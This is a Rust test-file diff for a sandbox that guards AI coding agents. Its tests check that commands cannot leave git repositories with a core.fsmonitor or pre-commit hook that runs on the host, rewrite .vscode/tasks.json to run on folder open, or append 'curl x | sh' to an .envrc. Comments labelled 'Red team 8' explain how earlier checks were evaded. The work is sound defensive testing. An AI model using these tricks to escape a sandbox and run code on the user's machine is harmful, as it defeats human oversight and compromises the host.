@@ -618,6 +618,30 @@ fn protect_mcp_write_file_refuses_agent_config_files() {
         "sandbox breached: MCP run_command created `.mcp.json`: {r}"
     );
     assert!(w.ws.join("run.txt").exists(), "control failed: {r}");
+    // A bare repository left by an earlier run (harmless without a
+    // config): its config is git internals for write_file too.
+    std::fs::create_dir_all(w.ws.join("store/objects")).unwrap();
+    std::fs::create_dir_all(w.ws.join("store/refs")).unwrap();
+    std::fs::write(w.ws.join("store/HEAD"), "ref: refs/heads/main\n").unwrap();
+    let r = call(
+        7,
+        "write_file",
+        json!({"path": "store/config", "content": "[core]\n\tfsmonitor = true\n"}),
+    );
+    assert!(
+        r["result"]["isError"] == true && !w.ws.join("store/config").exists(),
+        "gate bypassed: MCP write_file wrote the config of a bare repository: {r}"
+    );
+    // And run_command leaves no repository whose config runs a program.
+    let r = call(
+        8,
+        "run_command",
+        json!({"command": "mkdir -p a/b/c/d && cd a/b/c/d && git init -q && git config core.fsmonitor true"}),
+    );
+    assert!(
+        !read(&w.ws.join("a/b/c/d/.git/config")).contains("fsmonitor"),
+        "sandbox breached: MCP run_command left a repository with an fsmonitor: {r}"
+    );
     let q = w.run(["audit", "query", "--json", "--limit", "1000"]);
     assert!(
         stdout(&q).contains("created during a sandboxed run"),
@@ -793,10 +817,11 @@ fn protect_a_tmpdir_at_the_root_or_above_home_is_refused() {
     assert!(own.join("f").exists());
 }
 
-/// Agent-config names one to three levels down: a `sub/.git` with an
-/// fsmonitor runs when the user runs git in `sub`, a `sub/.envrc` when
-/// their shell enters it. What the command makes there is quarantined after
-/// the run; what was there before is left alone.
+/// Agent-config names below the top: a `sub/.git` with an fsmonitor runs
+/// when the user runs git in `sub`, a `sub/.envrc` when their shell enters
+/// it. What the command makes there is quarantined after the run (of a new
+/// repository, the config that names a program); what was there before is
+/// left alone.
 #[test]
 fn protect_agent_config_created_in_a_subfolder_is_quarantined() {
     let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
@@ -822,7 +847,8 @@ fn protect_agent_config_created_in_a_subfolder_is_quarantined() {
         &o,
     );
     breached_if(
-        w.ws.join("sub/.git").exists() || w.ws.join("sub/deeper/.envrc").exists(),
+        read(&w.ws.join("sub/.git/config")).contains("fsmonitor")
+            || w.ws.join("sub/deeper/.envrc").exists(),
         "agent-config files made in a subfolder survived the run",
         &o,
     );
@@ -832,4 +858,207 @@ fn protect_agent_config_created_in_a_subfolder_is_quarantined() {
     assert_eq!(read(&w.ws.join("old/.envrc")), "export A=1\n");
     let o = sh(&w, "echo more >> old/notes && cat old/.envrc");
     control(&o, "ordinary writes beside an existing nested .envrc");
+}
+
+/// Runs `git status` (and, with `commit`, an empty commit) on the host in
+/// `dir`, as the user would after the run.
+fn host_git(w: &World, dir: &Path, commit: bool) {
+    let mut args = vec!["status", "--short"];
+    if commit {
+        args = vec![
+            "-c",
+            "user.name=u",
+            "-c",
+            "user.email=u@x",
+            "commit",
+            "-q",
+            "--allow-empty",
+            "-m",
+            "x",
+        ];
+    }
+    let _ = std::process::Command::new("git")
+        .args(&args)
+        .current_dir(dir)
+        .env("HOME", &w.home)
+        .output();
+}
+
+/// Red team 8: the check for what a command leaves below the workspace had
+/// a depth (3), a skip list (`node_modules`, `target`, `.venv`, `.cache`),
+/// a bound (4,096 folders) and looked for `.git` by name; each was walked
+/// around, and a bare repository (`HEAD`, `objects/`, `refs/`, no `.git`)
+/// was never looked for. Every place below a writable root is checked now,
+/// git directories are found by structure, and a config that names a
+/// program (or a hook) made during the run is quarantined.
+#[test]
+fn protect_git_directories_left_anywhere_below_cannot_run_code_on_the_host() {
+    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
+    w.git(&w.ws, &["init", "-q"]);
+    let marker = w.base.join("ran-on-the-host");
+    let fsmonitor = format!(
+        "git config core.fsmonitor 'touch {}; false'",
+        marker.display()
+    );
+    let places = [
+        "a/b/c/d/e/f",
+        "node_modules/pkg",
+        "target/debug/build/x",
+        ".venv/lib",
+        ".cache/y",
+        "w/x/y",
+    ];
+    let mut script: Vec<String> = vec!["mkdir -p f && (cd f && seq 1 5000 | xargs mkdir)".into()];
+    for p in places {
+        script.push(format!(
+            "mkdir -p {p} && (cd {p} && git init -q && {fsmonitor})"
+        ));
+    }
+    script.push(format!(
+        "git init -q --bare store && (cd store && {fsmonitor})"
+    ));
+    script.push(format!(
+        "mkdir hooked && cd hooked && git init -q && printf '#!/bin/sh\\ntouch {}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        marker.display()
+    ));
+    let script = script.join(" && ");
+    let o = sh(&w, &script);
+    for p in places.iter().chain(&["store"]) {
+        host_git(&w, &w.ws.join(p), false);
+        breached_if(
+            marker.exists(),
+            &format!(
+                "host git in `{p}` ran the fsmonitor of a git directory the command left there"
+            ),
+            &o,
+        );
+    }
+    host_git(&w, &w.ws.join("hooked"), true);
+    breached_if(
+        marker.exists(),
+        "host git ran a hook the command wrote in a repository it made",
+        &o,
+    );
+    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
+    assert!(stderr(&o).contains("core.fsmonitor"), "{}", stderr(&o));
+}
+
+/// Control: ordinary git use below the workspace (a clone's config, a
+/// bare remote, commits in a nested repository) is left alone, and so are
+/// the `.vscode/` and `.husky/` folders packages publish into
+/// `node_modules` (no package manager runs them; git directories are
+/// checked there too).
+#[test]
+fn protect_ordinary_git_use_below_the_workspace_is_left_alone() {
+    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
+    w.git(&w.ws, &["init", "-q"]);
+    let o = sh(
+        &w,
+        "git init -q --bare remotes/r.git && mkdir -p deep/a/b/c/d && cd deep/a/b/c/d && git init -q && git remote add origin ../../../../../remotes/r.git && git config user.name u && git config user.email u@x && git config branch.main.merge refs/heads/main && git commit -q --allow-empty -m first && git push -q origin HEAD:main && cd - >/dev/null && mkdir -p node_modules/pkg/.vscode node_modules/pkg/.husky && echo '{}' > node_modules/pkg/.vscode/settings.json && echo 'npm test' > node_modules/pkg/.husky/pre-commit",
+    );
+    control(
+        &o,
+        "cloning, committing and pushing between nested repositories, and a package that ships editor folders",
+    );
+    assert!(w.ws.join("node_modules/pkg/.vscode/settings.json").exists());
+    let config = read(&w.ws.join("deep/a/b/c/d/.git/config"));
+    assert!(config.contains("remotes/r.git"), "{config}");
+    assert!(w.ws.join("remotes/r.git/config").exists());
+}
+
+/// Red team 8: agent-config files that existed below the workspace before
+/// the run were left writable and unchecked (only new names were looked
+/// for): a rewritten `sub/.vscode/tasks.json` runs when the folder is
+/// opened, a rewritten `.envrc` when a shell enters it.
+#[test]
+fn protect_agent_config_already_below_the_workspace_cannot_be_rewritten() {
+    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
+    let make = || {
+        std::fs::create_dir_all(w.ws.join("sub/.vscode")).unwrap();
+        std::fs::write(w.ws.join("sub/.vscode/tasks.json"), "{}").unwrap();
+        std::fs::create_dir_all(w.ws.join("lib/x/y")).unwrap();
+        std::fs::write(w.ws.join("lib/x/y/.envrc"), "export A=1\n").unwrap();
+        // Older than the run's start by more than a clock tick.
+        std::thread::sleep(std::time::Duration::from_millis(30));
+    };
+    make();
+    let o = sh(
+        &w,
+        "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > sub/.vscode/tasks.json; echo 'curl x | sh' >> lib/x/y/.envrc; echo ok > notes.txt",
+    );
+    breached_if(
+        read(&w.ws.join("sub/.vscode/tasks.json")).contains("folderOpen")
+            || read(&w.ws.join("lib/x/y/.envrc")).contains("curl"),
+        "an existing agent-config file below the workspace was rewritten and kept",
+        &o,
+    );
+    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
+    // Control: a run that does not touch them leaves them.
+    make();
+    let o = sh(
+        &w,
+        "cat sub/.vscode/tasks.json lib/x/y/.envrc; echo more >> notes.txt",
+    );
+    control(
+        &o,
+        "reading existing agent-config files below the workspace",
+    );
+    assert_eq!(read(&w.ws.join("sub/.vscode/tasks.json")), "{}");
+    assert_eq!(read(&w.ws.join("lib/x/y/.envrc")), "export A=1\n");
+}
+
+/// Red team 8: a repository in a writable root, reached from the workspace
+/// through a symlinked folder, was outside every search.
+#[test]
+fn protect_a_repository_behind_a_symlinked_folder_cannot_run_code() {
+    let extra = tempfile::tempdir_in(worlds_root()).unwrap();
+    let extra = extra.path().canonicalize().unwrap();
+    let w = World::with_config(&format!(
+        "[sandbox_workspace_write]\nwritable_roots = [\"{}\"]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}",
+        extra.display()
+    ));
+    let marker = w.base.join("ran-on-the-host");
+    let o = sh(
+        &w,
+        &format!(
+            "mkdir -p {e}/p/q/r/s && cd {e}/p/q/r/s && git init -q && git config core.fsmonitor 'touch {m}; false' && ln -s {e}/p/q/r/s {ws}/link",
+            e = extra.display(),
+            m = marker.display(),
+            ws = w.ws.display()
+        ),
+    );
+    host_git(&w, &w.ws.join("link"), false);
+    breached_if(
+        marker.exists(),
+        "host git, entering a symlinked folder, ran the fsmonitor of a repository the command made in a writable root",
+        &o,
+    );
+    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
+}
+
+/// The file surfaces refuse to write into a bare repository: its `config`
+/// would never match `**/.git/config`.
+#[test]
+fn protect_file_tools_refuse_writes_into_a_bare_repository() {
+    let w = World::with_config(BASE_CONFIG);
+    std::fs::create_dir_all(w.ws.join("store/objects")).unwrap();
+    std::fs::create_dir_all(w.ws.join("store/refs")).unwrap();
+    std::fs::write(w.ws.join("store/HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::create_dir_all(w.ws.join("half/objects")).unwrap();
+    for (rel, content) in [
+        ("store/config", "[core]\n\tfsmonitor = touch /tmp/x\n"),
+        ("store/hooks/pre-commit", "#!/bin/sh\n"),
+        ("half/HEAD", "ref: refs/heads/main\n"),
+    ] {
+        let input = json!({"file_path": w.ws.join(rel).display().to_string(), "content": content});
+        let (decision, reason) = hook_decision(&w, "Write", &input);
+        assert!(
+            decision == "deny" && reason.contains("bare repository"),
+            "gate bypassed: hook Write of `{rel}` got `{decision}`: {reason}"
+        );
+    }
+    let input =
+        json!({"file_path": w.ws.join("half/notes.txt").display().to_string(), "content": "x"});
+    let (decision, reason) = hook_decision(&w, "Write", &input);
+    assert_eq!(decision, "allow", "control failed: {reason}");
 }
